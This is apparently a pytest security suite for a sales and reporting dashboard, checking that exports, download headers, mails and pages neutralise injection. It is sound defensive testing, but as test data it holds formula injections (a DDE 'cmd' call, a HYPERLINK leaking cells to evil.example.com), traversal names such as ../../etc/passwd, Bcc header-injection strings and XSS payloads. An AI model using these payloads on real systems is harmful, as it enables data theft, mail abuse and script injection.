"""Injection, tried through every text a business's people or customers can type:

* spreadsheet formulas in every text column of every export type, CSV and Excel, read back;
* hostile schedule and file names: paths stay inside the export root, download headers stay clean;
* mail header injection through subjects, sender names, reply-to and recipients;
* HTML in names and messages: escaped in pages, PDFs and mails.

Each test counts the payloads it tried (printed at the end of the run: "security figures").
"""

from __future__ import annotations

import csv
import email
import subprocess
import uuid
from collections import Counter
from datetime import UTC, datetime
from email import policy
from pathlib import Path

import openpyxl
import pytest

from dashboard.exports.registry import get_dataset
from dashboard.exports.service import generate_export
from dashboard.extensions import db
from dashboard.models import AuditLog, Customer, ExportHistory, ExportSchedule, Product, Sale, User
from dashboard.services import runs
from tests.security.security_helpers import MEASURED, bearer, login, make_run, store_file

API = "/api/reports/automation"
# CONTRACT section 5, written out here rather than imported from the code under test.
FORMULA_PREFIXES = frozenset("=+-@\t\r")
COUNTS: Counter = Counter()

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click")',
    "=1+1",
    "-1",
    "+",
    "@",
    "=",
    "==cmd",
]
PERIOD = {"start_date": "2026-01-01", "end_date": "2026-01-31"}
WHEN = datetime(2026, 1, 10, 12, 0, tzinfo=UTC)


def _fit(model, column: str, value: str) -> str:
    """The value cut to the column's declared length (PostgreSQL enforces VARCHAR(n))."""
    length = getattr(model.__table__.c[column].type, "length", None)
    return value[:length] if length else value


def _plant_formulas(factory) -> object:
    """A business whose every text field, of every export type, holds a formula payload."""
    business = factory.business("Formula Shop", timezone="UTC")
    for i, payload in enumerate(FORMULAS):
        person = User(
            email=f"cashier{i}-{uuid.uuid4().hex[:6]}@example.com", name=_fit(User, "name", payload)
        )
        db.session.add(person)
        customer = Customer(
            business_id=business.id,
            name=_fit(Customer, "name", payload),
            email=_fit(Customer, "email", payload),
            phone=_fit(Customer, "phone", payload),
            created_at=WHEN,
        )
        db.session.add(customer)
        db.session.flush()
        db.session.add(
            Product(
                business_id=business.id,
                sku=_fit(Product, "sku", f"{payload}{i}" if i else payload),
                name=_fit(Product, "name", payload),
                category=_fit(Product, "category", payload),
                quantity_on_hand=1,
                unit_cost_cents=100,
                retail_price_cents=200,
            )
        )
        db.session.add(
            Sale(
                business_id=business.id,
                receipt_number=_fit(Sale, "receipt_number", payload),
                created_at=WHEN,
                customer_id=customer.id,
                cashier_id=person.id,
                payment_method=_fit(Sale, "payment_method", payload),
                status=_fit(Sale, "status", payload),
                item_count=1,
                subtotal_cents=100,
                total_cents=100,
            )
        )
        db.session.add(
            AuditLog(
                business_id=business.id,
                created_at=WHEN,
                user_id=person.id,
                action=_fit(AuditLog, "action", payload),
                entity=_fit(AuditLog, "entity", payload),
                entity_id=_fit(AuditLog, "entity_id", payload),
                details=payload,
                ip_address=_fit(AuditLog, "ip_address", payload),
            )
        )
    db.session.commit()
    return business


def _read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _read_excel(path: Path) -> list[list[object]]:
    book = openpyxl.load_workbook(path)  # not read-only: data_type tells formulas from text
    rows = []
    for sheet in book.worksheets:
        if sheet.title == "Summary":  # the period-over-period figures: our own labels and numbers
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
            continue
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_PREFIXES:
                    # Excel's guard (CONTRACT section 5): a text cell with the quote-prefix style.
                    assert cell.data_type == "s" and cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
            rows.append([cell.value for cell in row])
    return rows


EXPORTS = {
    "SALES": PERIOD,
    "CUSTOMERS": {"include_credit_history": True},
    "INVENTORY": {},
    "AUDIT_LOGS": PERIOD,
}


@pytest.mark.parametrize("fmt", ["csv", "excel"])
def test_formula_payloads_in_every_text_column_are_written_as_text(app, factory, tmp_path, fmt):
    business = _plant_formulas(factory)
    checked = 0
    for export_type, filters in EXPORTS.items():
        result = generate_export(business, export_type, fmt, dict(filters), out_dir=tmp_path)
        rows = _read_csv(result.path) if fmt == "csv" else _read_excel(result.path)
        columns = get_dataset(export_type).columns(filters)
        header, data = rows[0], rows[1:]
        assert header == [c.header for c in columns], export_type
        if fmt == "excel":
            data = data[:-1]  # the totals row
        assert len(data) == len(FORMULAS), (export_type, len(data))
        text_columns = [i for i, c in enumerate(columns) if c.kind == "text"]
        assert text_columns, export_type
        for index in text_columns:
            cells = [row[index] for row in data]
            for cell in cells:
                if cell in (None, ""):
                    continue
                assert isinstance(cell, str), (export_type, columns[index].header, cell)
                if fmt == "csv":  # Excel's guard is the cell's style, checked by _read_excel
                    assert cell[0] not in FORMULA_PREFIXES, (export_type, columns[index].header, cell)
            # every payload arrived, quoted (CSV: with a leading '; Excel: as typed, quote-prefixed)
            guarded = {str(c).replace("\r", "\n") for c in cells if c}
            for payload in FORMULAS:
                if export_type == "INVENTORY" and columns[index].header == "SKU":
                    continue  # SKUs are unique: payload + a number, checked by the loop above
                # "'" + the payload (XML turns CR into LF), or its first 16 characters where the
                # column is VARCHAR(16) (payment method, status)
                expected = ("'" if fmt == "csv" else "") + payload.replace("\r", "\n")
                least = min(len(expected), 16 + (fmt == "csv"))
                assert any(expected.startswith(g) and len(g) >= least for g in guarded), (
                    export_type,
                    columns[index].header,
                    payload,
                )
                checked += 1
    COUNTS[f"formula cells ({fmt})"] += checked
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


# --------------------------------------------------------------------------------------------
# Hostile names

HOSTILE_NAMES = {
    "traversal": "../../etc/passwd",
    "windows traversal": "..\\..\\windows\\win.ini",
    "absolute": "/etc/shadow",
    "CR/LF": "Weekly\r\nSet-Cookie: hijack=1",
    "LF": "Weekly\nContent-Type: text/html",
    "quotes": 'Bob\'s "best" report; filename=evil.exe',
    "1,000 characters": "x" * 1000,
    "non-ASCII": "Отчёт — 売上レポート 😀 Ümlaut",
    "NUL": "report\x00.exe",
    "dots": "...",
    "percent": "%2e%2e%2f%2e%2e%2fetc",
    "controls": "a\x1b[31mred\x07\x08",
    "HTML": "<script>alert('x')</script>",
}


def _content_disposition_is_clean(header: str) -> bool:
    """One printable ASCII line; "attachment" with one file name that has no separators and is not
    hidden, as a browser's parser (werkzeug's, here) reads it."""
    from werkzeug.http import parse_options_header

    if not header or not all(32 <= ord(c) < 127 for c in header):
        return False
    kind, params = parse_options_header(header)
    names = [params.get("filename"), params.get("filename*")]
    if kind != "attachment" or not params.get("filename"):
        return False
    if set(params) - {"filename", "filename*"}:
        return False  # a name that broke out of its quotes would add parameters
    for name in filter(None, names):
        if "/" in name or "\\" in name or name.startswith(".") or any(ord(c) < 32 for c in name):
            return False
    return True


def test_hostile_names_stay_inside_the_export_root_and_give_clean_download_headers(app, world):
    """Names that reach storage and Content-Disposition (a run's file name), stored and downloaded
    through every door: the page, the API and the signed link."""
    from dashboard.storage import get_storage
    from dashboard.storage.links import make_download_token

    a = world.a
    root = Path(app.config["EXPORT_ROOT"]).resolve()
    owner = login(app.test_client(), a.owner.email)
    tried = 0
    postgres = db.engine.dialect.name == "postgresql"
    for label, name in HOSTILE_NAMES.items():
        if postgres and "\x00" in name:
            continue  # PostgreSQL cannot store it at all; the request guard refuses it at the door
        for fmt, extension in (("csv", ".csv"), ("excel", ".xlsx"), ("pdf", ".pdf")):
            run = make_run(
                a.business, a.owner, format=fmt, file_name=_fit(ExportHistory, "file_name", name + extension)
            )
            stored = store_file(app, run)
            on_disk = get_storage().local_path(stored).resolve()
            assert on_disk.is_relative_to(root), (label, stored)
            assert on_disk.is_file()
            assert stored.startswith(f"exports/{a.business.id}/") and "/.." not in stored, (label, stored)
            for url, client, headers in (
                (f"/history/{run.id}/download", owner, {}),
                (f"{API}/history/{run.id}/download/", app.test_client(), bearer(a.tokens["owner"])),
                (f"/d/{make_download_token(run)}/file", app.test_client(), {}),
            ):
                response = client.get(url, headers=headers)
                assert response.status_code == 200, (label, url, response.status_code)
                disposition = response.headers["Content-Disposition"]
                assert _content_disposition_is_clean(disposition), (label, disposition)
                tried += 1
    COUNTS["hostile file names x formats x download doors"] += tried
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


def test_hostile_schedule_names_are_refused_or_run_cleanly(app, world, smtp_server):
    """Through the API: names with line breaks, NUL or 1,000 characters are refused (400 on the
    field); the others run, and their file, mail and headers stay clean."""
    a = world.a
    app.config.update(
        MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5
    )
    client = app.test_client()
    headers = bearer(a.tokens["owner"])
    root = Path(app.config["EXPORT_ROOT"]).resolve()
    refused, ran = 0, 0
    for label, name in HOSTILE_NAMES.items():
        body = {
            "name": name,
            "export_type": "INVENTORY",
            "format": "csv",
            "frequency": "DAILY",
            "hour": 6,
            "recipients": ["books@example.com"],
        }
        response = client.post(f"{API}/schedules/", json=body, headers=headers)
        if any(c in name for c in "\r\n\x00") or len(name) > 255:
            assert response.status_code == 400 and "name" in response.get_json()["errors"], (
                label,
                response.status_code,
            )
            refused += 1
            continue
        assert response.status_code == 201, (label, response.get_json())
        schedule_id = response.get_json()["id"]
        run = client.post(f"{API}/schedules/{schedule_id}/trigger/", json={}, headers=headers)
        assert run.status_code == 202, (label, run.get_json())
        history = db.session.get(ExportHistory, uuid.UUID(run.get_json()["id"]))
        db.session.refresh(history)
        assert history.status in ("COMPLETED", "EMAILED"), (label, history.status, history.error_message)
        from dashboard.storage import get_storage

        assert get_storage().local_path(history.file_path).resolve().is_relative_to(root)
        download = client.get(f"{API}/history/{history.id}/download/", headers=headers)
        assert _content_disposition_is_clean(download.headers["Content-Disposition"]), label
        ran += 1
    for received in smtp_server.received:
        message = email.message_from_bytes(received.data, policy=policy.default)
        assert b"bcc" not in _header_names(received.data) and b"set-cookie" not in _header_names(
            received.data
        )
        for header, value in message.items():  # values as read back, unfolded
            assert "\n" not in str(value) and "\r" not in str(value), (header, value)
        for part in message.iter_attachments():
            assert "/" not in part.get_filename() and "\\" not in part.get_filename()
        assert received.rcpt_tos == ["books@example.com"]
    assert len(smtp_server.received) == ran
    COUNTS["hostile schedule names refused (400)"] += refused
    COUNTS["hostile schedule names run and mailed"] += ran
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


# --------------------------------------------------------------------------------------------
# Mail headers

HEADER_PAYLOADS = [
    "Report\r\nBcc: evil@example.com",
    "Report\nBcc: evil@example.com",
    "Report\rBcc: evil@example.com",
    "Report\r\n\r\n<html>injected body</html>",
    "Report%0d%0aBcc: evil@example.com",  # stays text (no decoding anywhere)
    "Report\u2028Bcc: evil@example.com",
    "Report\x85Bcc: evil@example.com",
    "=?utf-8?q?Report=0D=0ABcc=3A_evil=40example.com?=",
]
ADDRESS_PAYLOADS = [
    "victim@example.com\r\nBcc: evil@example.com",
    "victim@example.com\nCc: evil@example.com",
    "victim@example.com, evil@example.com",
    "victim@example.com>\r\nBcc: <evil@example.com",
    '"evil@example.com" <victim@example.com>',
    "victim@example.com%0aBcc:evil@example.com",
    "=?utf-8?q?x=0D=0ABcc=3A_evil=40example.com?=@example.com",  # an encoded word as the local part
]


def test_mail_header_fields_with_line_breaks_are_refused_by_validation(app, world):
    a = world.a
    client = app.test_client()
    headers = bearer(a.tokens["owner"])
    schedule = {
        "name": "Mail test",
        "export_type": "INVENTORY",
        "format": "csv",
        "frequency": "DAILY",
        "hour": 6,
    }
    tried = 0
    for payload in HEADER_PAYLOADS:
        line_break = any(c in payload for c in "\r\n")
        response = client.post(
            f"{API}/schedules/", json={**schedule, "email_subject": payload}, headers=headers
        )
        assert (response.status_code == 400) == line_break, (payload, response.status_code)
        if line_break:
            assert "email_subject" in response.get_json()["errors"]
        response = client.put(f"{API}/notifications/", json={"from_name": payload}, headers=headers)
        assert (response.status_code == 400) == line_break, (payload, response.status_code)
        tried += 2
    for payload in ADDRESS_PAYLOADS:
        for field_body, url, method in (
            ({**schedule, "recipients": [payload]}, f"{API}/schedules/", "POST"),
            ({"default_recipients": [payload]}, f"{API}/notifications/", "PUT"),
            ({"reply_to_email": payload}, f"{API}/notifications/", "PUT"),
            ({"override_recipients": [payload]}, f"{API}/schedules/{a.schedule.id}/trigger/", "POST"),
            (
                {"export_type": "INVENTORY", "format": "csv", "recipients": [payload]},
                "/api/reports/exports/",
                "POST",
            ),
        ):
            response = client.open(url, method=method, json=field_body, headers=headers)
            assert response.status_code == 400, (payload, url, response.status_code)
            tried += 1
    db.session.expire_all()
    assert (
        db.session.scalar(
            db.select(db.func.count())
            .select_from(ExportHistory)
            .where(ExportHistory.business_id == a.business.id)
        )
        == 2
    )  # no trigger got through
    COUNTS["mail header payloads refused by validation"] += tried
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


def test_mail_headers_stay_clean_even_when_stored_values_hold_line_breaks(app, world, smtp_server):
    """Defence in depth: values written straight to the database (an old row, a bug elsewhere)
    still cannot add a header or a recipient."""
    from dashboard.services import notifications

    a = world.a
    app.config.update(
        MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5
    )
    settings = notifications.get_settings(a.business)
    tried = 0
    for payload in HEADER_PAYLOADS:
        settings.from_name = payload
        settings.reply_to_email = "reply@example.com\r\nBcc: evil@example.com"
        schedule = db.session.get(ExportSchedule, a.schedule.id)
        schedule.email_subject = payload
        schedule.name = payload
        schedule.recipients = ["books@example.com", "victim@example.com\r\nBcc: evil@example.com"]
        schedule.export_type, schedule.format, schedule.filters = "INVENTORY", "csv", {}
        db.session.commit()
        smtp_server.received.clear()
        history = runs.trigger_schedule(schedule, a.owner, "MANUAL")
        db.session.refresh(history)
        assert history.status in ("COMPLETED", "EMAILED"), history.error_message
        assert smtp_server.received, payload
        for received in smtp_server.received:
            assert received.rcpt_tos == ["books@example.com"], (payload, received.rcpt_tos)
            head = received.data.split(b"\r\n\r\n", 1)[0]
            names = [
                line.split(b":", 1)[0].lower()
                for line in head.split(b"\r\n")
                if line and line[:1] not in b" \t"
            ]
            assert b"bcc" not in names and b"set-cookie" not in names, (payload, names)
            assert names.count(b"subject") == 1 and names.count(b"from") == 1 and names.count(b"to") == 1
            message = email.message_from_bytes(received.data, policy=policy.default)
            assert "evil@example.com" not in str(message["To"]) + str(message.get("Cc", ""))
            assert "\n" not in str(message["Subject"]) and "\r" not in str(message["Subject"])
        tried += 1
    COUNTS["mail header payloads sent through stored values"] += tried
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


ENCODED_WORD = "=?utf-8?q?Report=0D=0ABcc=3A_evil=40example.com?="


def _header_names(data: bytes) -> list[bytes]:
    head = data.split(b"\r\n\r\n", 1)[0]
    return [line.split(b":", 1)[0].lower() for line in head.split(b"\r\n") if line and line[:1] not in b" \t"]


def test_an_encoded_word_cannot_smuggle_a_line_break_into_a_header(app, world, smtp_server):
    """No CR or LF is typed, so validation lets it through; the email package would decode the
    RFC 2047 word to "Report\\r\\nBcc: ..." and write that line as it is (it did, before
    mailer.clean_header turned "=?" into "= ?")."""
    a = world.a
    app.config.update(
        MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5
    )
    client = app.test_client()
    headers = bearer(a.tokens["owner"])
    assert (
        client.put(f"{API}/notifications/", json={"from_name": ENCODED_WORD}, headers=headers).status_code
        == 200
    )
    body = {
        "name": ENCODED_WORD,
        "export_type": "INVENTORY",
        "format": "csv",
        "frequency": "DAILY",
        "hour": 6,
        "email_subject": ENCODED_WORD,
        "recipients": ["books@example.com"],
    }
    created = client.post(f"{API}/schedules/", json=body, headers=headers)
    assert created.status_code == 201, created.get_json()
    run = client.post(f"{API}/schedules/{created.get_json()['id']}/trigger/", json={}, headers=headers)
    assert run.status_code == 202
    assert len(smtp_server.received) == 1
    received = smtp_server.received[0]
    assert received.rcpt_tos == ["books@example.com"]
    names = _header_names(received.data)
    assert b"bcc" not in names and names.count(b"subject") == 1, names
    message = email.message_from_bytes(received.data, policy=policy.default)
    assert "\n" not in str(message["Subject"]) and "Bcc" in str(message["Subject"])  # shown as text
    COUNTS["encoded-word header payloads"] += 3  # subject, sender name, schedule name
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


# --------------------------------------------------------------------------------------------
# HTML

HTML_PAYLOADS = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</textarea><script>alert(2)</script>",
    "{{ 7*7 }}{% raw %}",
    "<b>bold</b>",
]


def test_html_in_names_and_messages_is_shown_as_text_in_pages(app, world):
    a = world.a
    owner = login(app.test_client(), a.owner.email)
    tried = 0
    for payload in HTML_PAYLOADS:
        schedule = db.session.get(ExportSchedule, a.schedule.id)
        schedule.name = payload
        schedule.email_subject = payload
        schedule.email_message = payload
        run = db.session.get(ExportHistory, a.failed_run.id)
        run.schedule_name = payload
        run.error_message = payload
        a.business.name = "Shop " + payload
        db.session.commit()
        for url, headers in (
            ("/", {}),
            ("/schedules/", {}),
            ("/schedules/", {"HX-Request": "true"}),
            (f"/schedules/{schedule.id}/edit", {}),
            ("/history/", {}),
            (f"/history/{run.id}", {}),
            (f"/history/{run.id}/row", {"HX-Request": "true"}),
            ("/exports/new", {}),
            ("/statistics/", {}),
            ("/settings/notifications", {}),
        ):
            response = owner.get(url, headers=headers)
            assert response.status_code == 200, (url, response.status_code)
            page = response.get_data(as_text=True)
            if _escaped(payload) != payload:
                assert payload not in page, (payload, url)  # markup arrives as text, never as markup
            else:
                # template syntax is shown as typed, never evaluated
                assert "Shop 49" not in page and ">49{%" not in page, (payload, url)
            tried += 1
        # the name is visible as text somewhere on the list page
        assert _escaped(payload) in owner.get("/schedules/").get_data(as_text=True)
    COUNTS["HTML payloads x pages"] += tried
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


def _escaped(text: str) -> str:
    from markupsafe import escape

    return str(escape(text))


def _pdf_text(path: Path) -> str:
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


def test_html_in_data_is_text_in_pdfs(app, factory, tmp_path):
    business = factory.business("<i>Shop</i> & <b>Co</b>", timezone="UTC")
    for i, payload in enumerate(HTML_PAYLOADS):
        db.session.add(
            Customer(
                business_id=business.id,
                name=payload,
                email=f"c{i}@example.com",
                phone="<br>",
                created_at=WHEN,
            )
        )
    db.session.commit()
    result = generate_export(business, "CUSTOMERS", "pdf", {}, out_dir=tmp_path)
    text = " ".join(_pdf_text(result.path).split())
    assert "<i>Shop</i> & <b>Co</b>" in text
    for payload in HTML_PAYLOADS:
        # The cell shows the characters as typed (wrapping may split long ones across lines).
        assert " ".join(payload.split())[:12] in text, payload
    COUNTS["HTML payloads in PDFs"] += len(HTML_PAYLOADS) + 1
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


def test_html_in_names_and_messages_is_escaped_in_mails(app, world, smtp_server):
    from dashboard.services import notifications

    a = world.a
    app.config.update(
        MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5
    )
    settings = notifications.get_settings(a.business)
    tried = 0
    for payload in HTML_PAYLOADS:
        settings.from_name = "Sender " + payload[:60]
        a.business.name = "Shop " + payload
        schedule = db.session.get(ExportSchedule, a.schedule.id)
        schedule.name = payload
        schedule.email_subject = payload
        schedule.email_message = payload + "\nSecond line " + payload
        schedule.export_type, schedule.format, schedule.filters = "INVENTORY", "csv", {}
        schedule.recipients = ["books@example.com"]
        db.session.commit()
        smtp_server.received.clear()
        history = runs.trigger_schedule(schedule, a.owner, "MANUAL")
        db.session.refresh(history)
        assert history.status in ("COMPLETED", "EMAILED"), history.error_message
        assert len(smtp_server.received) == 1
        message = email.message_from_bytes(smtp_server.received[0].data, policy=policy.default)
        html = message.get_body(("html",)).get_content()
        plain = message.get_body(("plain",)).get_content()
        if _escaped(payload) != payload:
            assert payload not in html, payload  # markup arrives as text
        assert _escaped(payload) in html, payload
        assert "Shop 49" not in html  # and template syntax is not evaluated
        assert payload in plain  # text is text
        tried += 1
    COUNTS["HTML payloads in mails"] += tried
    MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})


@pytest.fixture
def smtp_server():
    from tests.security.security_helpers import SmtpServer

    server = SmtpServer().start()
    yield server
    server.stop()
